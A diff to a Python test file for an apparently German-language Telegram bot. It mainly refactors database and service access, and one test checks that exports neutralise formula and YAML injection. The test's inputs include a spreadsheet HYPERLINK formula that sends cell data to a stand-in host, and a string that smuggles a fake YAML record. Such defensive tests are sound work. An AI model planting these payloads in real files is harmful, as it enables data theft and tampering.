@@ -14,7 +14,8 @@ from datetime import timedelta
 import pytest
 
 from bot.engine.memory import ConversationMemory
-from bot.store.database import database_path
+from bot.store.database import Database, database_path
+from bot.telegram.context import services
 
 USERS = [7319024455, 7319024466, 7319024477]
 GROUP = -1009876543210
@@ -57,7 +58,7 @@ async def drive_the_bot(telegram, engine, before):
     clarify = next(m for m in telegram.sent if m["text"] == "Meinten Sie …?")
     await telegram.press(clarify["chat_id"], buttons(clarify)[0], clarify["message_id"], user_id=clarify["chat_id"])
     await telegram.wait_until(lambda: len(telegram.callback_answers) >= 3)
-    await telegram.application.bot_data["state"].querylog.flush()
+    await services(telegram.application.bot_data).querylog.flush()
     return expected
 
 
@@ -161,11 +162,12 @@ async def test_exports_turn_no_user_text_into_formulas_or_live_yaml(tmp_path):
     data = tmp_path / "data"
     hostile = ['=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTab", "=1+1"]
     escape = "Förderung für Wärmepumpen?\n- id: evil\n  answer: gehackt\n#"
-    log = QueryLog(data)
+    log = QueryLog(Database(data))
     await log.open()
     for text in [*hostile, escape, escape]:
         log.add(record(text, outcome="fallback"))
     await log.close()
+    await log.database.close()
 
     table = tmp_path / "log.csv"
     run_cli("report", "--csv", str(table), "--data-dir", str(data))
